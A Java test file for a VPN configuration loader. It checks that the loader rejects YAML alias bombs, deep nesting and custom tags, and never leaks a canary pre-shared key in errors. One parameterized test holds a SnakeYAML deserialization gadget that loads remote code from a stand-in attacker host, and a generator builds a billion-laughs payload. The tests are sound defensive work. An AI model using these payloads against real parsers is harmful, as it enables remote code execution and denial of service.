package dev.vpnform.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.vpnform.model.DesiredConnection;
import dev.vpnform.model.DesiredState;
import dev.vpnform.model.Diagnostic;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile and broken input: limits, tags, syntax errors, and secrets that must never leak. */
class ConfigLoaderSafetyTest {
  private static final String CANARY = "CANARY-psk-3f9a";
  private static final ConfigLoader LOADER =
      ConfigLoader.builder().environment(Map.of("DC1_PSK", CANARY)::get).build();

  @TempDir Path dir;

  private static List<String> problems(ConfigLoader loader, String yaml) {
    ConfigException e =
        catchThrowableOfType(
            ConfigException.class, () -> loader.loadString(yaml, "a.yaml", Path.of(".")));
    assertThat(e).as("a ConfigException for:%n%s", yaml).isNotNull();
    return e.diagnostics().stream().map(Diagnostic::format).toList();
  }

  private static List<String> problems(String yaml) {
    return problems(LOADER, yaml);
  }

  // ---- limits ---------------------------------------------------------------------------------

  /** The "billion laughs": 9 levels of 9 aliases each would expand to 9^9 strings. */
  static String billionLaughs() {
    StringBuilder sb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (char c = 'b'; c <= 'i'; c++) {
      String prev = "*" + (char) (c - 1);
      sb.append(c)
          .append(": &")
          .append(c)
          .append(" [")
          .append(IntStream.range(0, 9).mapToObj(i -> prev).collect(Collectors.joining(", ")))
          .append("]\n");
    }
    return sb.toString();
  }

  @Test
  void anAliasBombIsRejectedQuickly() {
    List<String> found =
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> problems(billionLaughs()));

    // The 51st alias: the 6th on line 7 (lines b..f use 45), each "*f, " 4 columns wide.
    assertThat(found)
        .containsExactly(
            "a.yaml:7:28: error: [limits] more than 50 aliases to lists or mappings (maxAliases):"
                + " refusing what looks like an alias bomb");
  }

  @Test
  void theAliasLimitIsConfigurableAndScalarAliasesDoNotCount() throws Exception {
    ConfigLoader strict = ConfigLoader.builder().maxAliases(0).build();
    String scalarAlias = "connections:\n  - {name: &n dc1, description: *n}\n";
    assertThat(strict.loadString(scalarAlias, "a.yaml", dir).connections().get(0).description())
        .isEqualTo("dc1");

    String collectionAlias = "connections:\n  - &c {name: dc1}\n  - *c\n";
    assertThat(problems(strict, collectionAlias))
        .containsExactly(
            "a.yaml:3:5: error: [limits] more than 0 aliases to lists or mappings (maxAliases):"
                + " refusing what looks like an alias bomb");
  }

  @Test
  void nestingTenThousandDeepIsRejected() {
    String deep = "connections: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";

    List<String> found = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> problems(deep));

    // The top-level mapping is level 1, so the 50th bracket (column 14 + 49) is level 51.
    assertThat(found)
        .containsExactly("a.yaml:1:63: error: [limits] nested more than 50 levels deep (maxDepth)");
  }

  @Test
  void theDepthLimitIsConfigurable() {
    String yaml = "connections:\n  - name: dc1\n    dpd: {action: hold}\n";
    assertThat(problems(ConfigLoader.builder().maxDepth(3).build(), yaml))
        .containsExactly("a.yaml:3:10: error: [limits] nested more than 3 levels deep (maxDepth)");
  }

  @Test
  void aLargeFileWithinTheLimitLoads() throws Exception {
    // Over SnakeYAML's own 3 MiB default code point limit, under our 8 MiB byte limit.
    StringBuilder sb = new StringBuilder("connections:\n");
    int n = 0;
    while (sb.length() < 4 * 1024 * 1024) {
      sb.append("  - {name: connection-")
          .append(n++)
          .append(", description: ")
          .append("x".repeat(100))
          .append("}\n");
    }
    Path big = Files.writeString(dir.resolve("big.yaml"), sb);

    assertThat(LOADER.load(List.of(big)).connections()).hasSize(n);
  }

  // ---- tags -----------------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!!java.net.URL http://attacker.example/",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://attacker.example/\"]]]]",
        "!foo dc1",
        "!<tag:example.com,2024:thing> dc1",
      })
  void tagsAreNotAllowed(String value) {
    assertThat(problems("connections:\n  - name: " + value + "\n"))
        .containsExactly("a.yaml:2:11: error: [yaml] tags are not allowed");
  }

  @Test
  void everyLocalTagInAFileIsReported() {
    assertThat(problems("connections:\n  - name: !a dc1\n    mtu: !b 1\n    dpd: !c {}\n"))
        .containsExactly(
            "a.yaml:2:11: error: [yaml] tags are not allowed",
            "a.yaml:3:10: error: [yaml] tags are not allowed",
            "a.yaml:4:10: error: [yaml] tags are not allowed");
  }

  @Test
  void standardTagsAreJustTypes() throws Exception {
    DesiredConnection c =
        LOADER
            .loadString("connections:\n  - name: !!str 123\n    mtu: !!int 1400\n", "a.yaml", dir)
            .connections()
            .get(0);

    assertThat(c.name()).isEqualTo("123");
    assertThat(c.mtu()).isEqualTo(1400);
    assertThat(problems("connections:\n  - name: !!binary aGk=\n"))
        .containsExactly(
            "a.yaml:2:11: error: [O3] connections[0]: name: expected a string, got binary data"
                + " (!!binary)");
  }

  @Test
  void aMergeTagOnAnotherKeyIsRefusedBeforeItLiftsWhatIsWrittenUnderAPsk() {
    // Found by fuzzing: SnakeYAML merges the mapping of any key tagged !!merge into its parent, so
    // the canary, written under a key that reads "psk", became an unknown top-level key and its
    // message quoted it.
    String yaml = "connections:\n  - name: a\n    psk: {env: X}\n!!merge psk: {CANARY-psk: 1}\n";

    assertThat(problems(yaml))
        .containsExactly(
            "a.yaml:4:1: error: [yaml] the !!merge tag is allowed only on a merge key written as"
                + " <<");
    assertThat(problems("connections:\n  - name: a\n    !!merge psk: {env: X, CANARY-psk: 1}\n"))
        .containsExactly(
            "a.yaml:3:5: error: [yaml] the !!merge tag is allowed only on a merge key written as"
                + " <<");
  }

  @Test
  void aMergeKeyMayBeTaggedExplicitly() throws Exception {
    DesiredConnection c =
        LOADER
            .loadString(
                "connections:\n  - &b {name: dc0, mtu: 1400}\n  - {!!merge <<: *b, name: dc1}\n",
                "a.yaml",
                dir)
            .connections()
            .get(1);
    assertThat(c.name()).isEqualTo("dc1");
    assertThat(c.mtu()).isEqualTo(1400);
  }

  // ---- syntax ---------------------------------------------------------------------------------

  @Test
  void aTabIndentedFileIsLocatedAtTheTab() {
    assertThat(problems("connections:\n\t- name: dc1\n"))
        .containsExactly(
            "a.yaml:2:1: error: [yaml] found a tab character where indentation is expected");
  }

  @Test
  void duplicateKeysAreReportedAtTheSecondAtEveryLevel() {
    assertThat(
            problems(
                """
                connections:
                  - name: dc1
                    mtu: 1400
                    dpd: {action: hold, action: clear}
                    psk: {env: DC1_PSK, env: OTHER}
                    mtu: 1500
                connections: []
                """))
        .containsExactly(
            "a.yaml:4:25: error: [duplicate-key] dc1: dpd.action: duplicate key 'action'",
            "a.yaml:5:25: error: [duplicate-key] dc1: psk.env: duplicate key 'env'",
            "a.yaml:6:5: error: [duplicate-key] dc1: mtu: duplicate key 'mtu'",
            "a.yaml:7:1: error: [duplicate-key] connections: duplicate key 'connections'");
  }

  @Test
  void aSyntaxErrorIsLocatedWithoutASnippet() {
    assertThat(problems("connections:\n  - name: dc1\n   mtu: 1\n"))
        .containsExactly(
            "a.yaml:3:4: error: [yaml] expected <block end>, but found '<block mapping start>'"
                + " (while parsing a block collection at 2:3)");
    assertThat(problems("connections:\n  - name: *nowhere\n"))
        .containsExactly("a.yaml:2:11: error: [yaml] found undefined alias nowhere");
  }

  @Test
  void aControlCharacterIsLocated() {
    assertThat(problems("connections:\n  - name: d\u0007c1\n"))
        .containsExactly(
            "a.yaml:2:12: error: [yaml] found a special character that YAML does not allow"
                + " (U+0007)");
  }

  @Test
  void cyclicAliasesAreReportedNotFollowed() {
    List<String> found =
        assertTimeoutPreemptively(
            Duration.ofSeconds(5), () -> problems("connections: &c [*c]\n? &k [*k]\n: 1\n"));

    assertThat(found)
        .containsExactly(
            "a.yaml:1:14: error: [O3] connections[0]: expected a mapping (one connection), got a"
                + " list",
            "a.yaml:2:3: error: [O3] a key must be a string, got a list");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "# only a comment\n\n# and another\n", "---\n", "---\n...\n"})
  void anEmptyFileIsAnError(String yaml) {
    assertThat(problems(yaml))
        .containsExactly(
            "a.yaml: error: [yaml] the file is empty: expected a mapping with 'connections:'");
  }

  // ---- the psk never leaks --------------------------------------------------------------------

  /** Every rendering a user or a log could see. */
  private static String everythingShown(DesiredState state) {
    StringBuilder sb = new StringBuilder(state.toString());
    for (DesiredConnection c : state.connections()) {
      sb.append(c).append(c.pskRef()).append(c.pskRef().describe()).append(c.psk());
      sb.append(c.locations());
    }
    state.warnings().forEach(w -> sb.append(w.format()).append(w));
    return sb.toString();
  }

  private static String everythingShown(ConfigException e) {
    StringBuilder sb = new StringBuilder(e.getMessage()).append(e);
    for (Diagnostic d : e.diagnostics()) {
      sb.append(d).append(d.message()).append(d.connection()).append(d.field());
    }
    return sb.toString();
  }

  private Path pskFile() throws IOException {
    return Files.writeString(dir.resolve("dc1.psk"), CANARY + "\n", StandardCharsets.UTF_8);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "psk: CANARY-psk-3f9a",
        "psk: 'CANARY-psk-3f9a'",
        "psk: |\n      CANARY-psk-3f9a",
        "psk: {env: DC1_PSK}",
        "psk: {file: dc1.psk}",
        "psk: &p CANARY-psk-3f9a\n    description: *p",
      })
  void theCanaryNeverShowsInAValidDocument(String pskLine) throws Exception {
    pskFile();
    DesiredState state =
        LOADER.loadString("connections:\n  - name: dc1\n    " + pskLine + "\n", "a.yaml", dir);

    assertThat(state.connections().get(0).psk().reveal()).startsWith(CANARY);
    assertThat(everythingShown(state)).doesNotContain(CANARY).doesNotContain("3f9a");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // syntax errors on the psk line
        "psk: \"CANARY-psk-3f9a",
        "psk: 'CANARY-psk-3f9a",
        "psk: [CANARY-psk-3f9a",
        "psk: {CANARY-psk-3f9a",
        "psk: CANARY-psk-3f9a: x",
        "psk: *CANARY-psk-3f9a",
        "psk: &CANARY-psk-3f9a",
        "psk: !CANARY-psk-3f9a x",
        "psk: !!CANARY-psk-3f9a x",
        "psk: CANARY-psk-3f9a\u0007",
        "psk: \"CANARY-psk-3f9a\\q\"",
        "psk: @CANARY-psk-3f9a",
        "psk: `CANARY-psk-3f9a",
        "psk: |\n      CANARY-psk-3f9a\n     bad: [",
        "psk: >\n      CANARY-psk-3f9a\n    \"CANARY-psk-3f9a",
        "psk:\n      CANARY-psk-3f9a\n   - x",
        "psk: CANARY-psk-3f9a\n\t- x",
        // duplicate psk keys
        "psk: CANARY-psk-3f9a\n    psk: CANARY-psk-3f9a",
        "psk: {env: DC1_PSK}\n    psk: CANARY-psk-3f9a",
        "psk: {CANARY-psk-3f9a: 1, CANARY-psk-3f9a: 2}",
        // psk itself misshapen
        "psk: {CANARY-psk-3f9a}",
        "psk: {CANARY-psk-3f9a: x}",
        "psk: {env: DC1_PSK, CANARY-psk-3f9a: x}",
        "psk: [CANARY-psk-3f9a]",
        "psk: {env: DC1_PSK, file: dc1.psk}",
        // a wrong type next to a valid psk of each kind
        "psk: CANARY-psk-3f9a\n    mtu: 1.5",
        "psk: {env: DC1_PSK}\n    mtu: 1.5",
        "psk: {file: dc1.psk}\n    mtu: 1.5",
        "mtu: nope\n    psk: CANARY-psk-3f9a\n    dpd: 3",
      })
  void theCanaryNeverShowsInABrokenDocument(String pskLine) throws Exception {
    pskFile();
    String yaml = "connections:\n  - name: dc1\n    " + pskLine + "\n";
    ConfigException e =
        catchThrowableOfType(ConfigException.class, () -> LOADER.loadString(yaml, "a.yaml", dir));

    assertThat(e).as("a ConfigException for:%n%s", yaml).isNotNull();
    assertThat(everythingShown(e)).doesNotContain(CANARY).doesNotContain("3f9a");
  }

  @Test
  void aNumericPskIsNotEchoedInTheQuoteHint() {
    assertThat(problems("connections:\n  - name: dc1\n    psk: 31337\n"))
        .singleElement()
        .asString()
        .doesNotContain("31337");
  }

  @Test
  void theCanaryNeverShowsAcrossFiles() throws Exception {
    pskFile();
    List<Path> files = new ArrayList<>();
    files.add(
        Files.writeString(
            dir.resolve("a.yaml"),
            "connections:\n  - name: dc1\n    psk: CANARY-psk-3f9a\n    mtu: x\n"));
    files.add(
        Files.writeString(
            dir.resolve("b.yaml"), "connections:\n  - name: dc1\n    psk: {file: dc1.psk}\n"));
    files.add(
        Files.writeString(
            dir.resolve("c.yaml"), "connections:\n  - name: dc3\n    psk: \"CANARY-psk-3f9a\n"));

    ConfigException e = catchThrowableOfType(ConfigException.class, () -> LOADER.load(files));

    assertThat(e.diagnostics()).hasSize(4);
    assertThat(everythingShown(e)).doesNotContain(CANARY).doesNotContain("3f9a");
  }
}
